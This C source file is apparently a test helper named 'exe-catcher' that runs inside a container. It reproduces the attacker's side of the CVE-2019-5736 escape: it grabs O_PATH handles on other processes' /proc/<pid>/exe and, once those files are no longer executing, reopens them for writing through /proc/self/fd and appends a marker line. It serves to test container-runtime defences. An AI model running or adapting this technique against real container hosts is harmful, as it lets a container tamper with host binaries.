/*
 * The attacker's half of the CVE-2019-5736 class, run inside a container by exe-host-binary.test.ts
 * (compiled there as a static program and copied into the container's rootfs).
 *
 *   exe-catcher LOG SECONDS [PID]
 *
 * Watches /proc for other processes (only PID when given; otherwise every process but itself and
 * PID 1) and takes an O_PATH fd on each one's /proc/<pid>/exe as soon as it appears. Once nothing
 * executes that file any more (open for writing stops failing with ETXTBSY), it reopens the fd
 * O_WRONLY|O_APPEND through /proc/self/fd/N and appends a line. LOG gets one line per event:
 *   caught <n> <pid> <exe link>
 *   result <n> wrote | refused <what> <errno>
 * A "wrote" means the container modified whatever file that process was executing.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_CAUGHT 64

struct caught {
  int fd, done;
  pid_t pid;
  char link[512];
};

static struct caught caught[MAX_CAUGHT];
static int n_caught;
static FILE *logf;

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int seen(pid_t pid, const char *link) {
  for (int i = 0; i < n_caught; i++)
    if (caught[i].pid == pid && strcmp(caught[i].link, link) == 0) return 1;
  return 0;
}

static void try_catch(pid_t pid) {
  char path[64], link[512];
  snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
  ssize_t n = readlink(path, link, sizeof link - 1);
  if (n < 0) return;
  link[n] = 0;
  if (seen(pid, link) || n_caught == MAX_CAUGHT) return;
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  struct caught *c = &caught[n_caught];
  c->fd = fd;
  c->pid = pid;
  c->done = 0;
  strcpy(c->link, link);
  fprintf(logf, "caught %d %d %s\n", n_caught, (int)pid, link);
  fflush(logf);
  n_caught++;
}

static void try_write(struct caught *c, int index) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", c->fd);
  int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (w < 0) {
    if (errno == ETXTBSY) return; /* still executed by someone: try again later */
    fprintf(logf, "result %d refused open %s\n", index, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
  } else {
    static const char line[] = "\nwritten from inside a container by exe-catcher\n";
    if (write(w, line, sizeof line - 1) == (ssize_t)(sizeof line - 1)) fprintf(logf, "result %d wrote\n", index);
    else fprintf(logf, "result %d refused write %s\n", index, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    close(w);
  }
  fflush(logf);
  c->done = 1;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  logf = fopen(argv[1], "a");
  if (!logf) return 3;
  double end = now() + atof(argv[2]);
  pid_t only = argc > 3 ? (pid_t)atoi(argv[3]) : 0;
  pid_t self = getpid();
  fprintf(logf, "ready %d\n", (int)self);
  fflush(logf);
  while (now() < end) {
    if (only) {
      try_catch(only);
    } else {
      DIR *d = opendir("/proc");
      if (!d) return 4;
      for (struct dirent *e; (e = readdir(d));) {
        pid_t pid = (pid_t)atoi(e->d_name);
        if (pid > 1 && pid != self) try_catch(pid);
      }
      closedir(d);
    }
    for (int i = 0; i < n_caught; i++)
      if (!caught[i].done) try_write(&caught[i], i);
  }
  return 0;
}
